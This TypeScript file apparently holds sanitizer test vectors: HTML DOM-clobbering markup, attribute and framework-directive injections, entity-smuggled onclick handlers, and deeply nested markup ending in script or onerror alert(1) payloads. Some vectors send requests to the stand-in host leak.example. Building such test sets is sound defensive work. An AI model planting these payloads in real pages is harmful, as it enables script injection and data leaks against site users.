/** Names and ids that stand in for the page's own, references that are read by others, and sheer quantity. */

/** What a page's script, or the browser, looks up by name. */
const globals = [
  'body',
  'head',
  'forms',
  'cookie',
  'domain',
  'location',
  'documentElement',
  'getElementById',
  'querySelector',
  'createElement',
  'currentScript',
  'defaultView',
  'attributes',
  'parentNode',
  'innerHTML',
  'nodeName',
  'submit',
  'action',
  'constructor',
  '__proto__',
  'config',
  'top',
  'self',
  'name',
  'alert',
];

const clobbering = globals.flatMap((name) => [
  `<a id=${name} href="https://leak.example/">x</a><a id=${name} name=${name} href="https://leak.example/2">y</a>`,
  `<img name=${name} src=x><form name=${name}><input name=${name}></form>`,
]);

const references = [
  '<p id=t-x>a</p><a href="#x">x</a><a href="#t-x">x</a>',
  '<p aria-labelledby="main nav" aria-describedby="x y">x</p>',
  '<p aria-label="Log in again" role=alertdialog>x</p>',
  '<p role=button tabindex=0>x</p>',
  '<p class="desk-button publish hidden">x</p>',
  '<p class="table-scroll footnotes" style="display:none">x</p>',
  '<label for=publish>x</label><output for=publish form=publish>y</output>',
  '<p slot=x part=y exportparts=z>x</p>',
  '<p popover id=p>x</p><button popovertarget=p>y</button>',
  '<button command=show-modal commandfor=dialog>x</button>',
  '<p hidden inert>x</p>',
  '<p data-action="delete" data-href="javascript:alert(1)">x</p>',
  '<p hx-get="https://leak.example/" hx-trigger=load>x</p>',
  '<p x-init="alert(1)" @click="alert(1)" :onclick="alert(1)" v-html="alert(1)">{{constructor.constructor("alert(1)")()}}</p>',
  '<p xmlns:x=y x:onclick=alert(1)>x</p>',
  '<img src=x crossorigin referrerpolicy=unsafe-url fetchpriority=high attributionsrc=https://leak.example/>',
  '<a href=https://example.org/ attributionsrc=https://leak.example/ referrerpolicy=unsafe-url>x</a>',
  '<p lang="zh&quot; onclick=&quot;alert(1)">x</p>',
  '<p dir="rtl&quot; onclick=&quot;alert(1)">x</p>',
  '<bdo dir=rtl onclick=alert(1)>x</bdo>',
];

const quantity = [
  `${'<b>'.repeat(600)}<img src=x onerror=alert(1)>`,
  `${'<div>'.repeat(600)}<script>alert(1)</script>`,
  `${'<span title=x>'.repeat(150)}<img src=x onerror=alert(1)>${'</span>'.repeat(150)}`,
  `${'> '.repeat(200)}<script>alert(1)</script>`,
  `${'- '.repeat(200)}<img src=x onerror=alert(1)>`,
  `${'['.repeat(400)}<img src=x onerror=alert(1)>${'](javascript:alert(1))'.repeat(50)}`,
  `${'**a '.repeat(300)}<svg onload=alert(1)>`,
  `<p ${'a '.repeat(500)}onclick=alert(1)>x</p>`,
  `<p ${Array.from({ length: 300 }, (_, at) => `a${at}=1`).join(' ')} onclick=alert(1)>x</p>`,
  `${Array.from({ length: 60 }, (_, at) => `<b title=${at}>`).join('')}${'<p>x'.repeat(60)}<script>alert(1)</script>`,
  `${'<table><tr><td>'.repeat(60)}<img src=x onerror=alert(1)>`,
  `${'<svg><foreignObject>'.repeat(60)}<img src=x onerror=alert(1)>`,
  `${'<a href=https://example.org/>'.repeat(60)}<script>alert(1)</script>`,
  `${'<!--'.repeat(200)}<script>alert(1)</script>`,
  `${'<a title="'.repeat(80)}<script>alert(1)</script>`,
];

export const documentVectors: readonly string[] = [...clobbering, ...references, ...quantity];
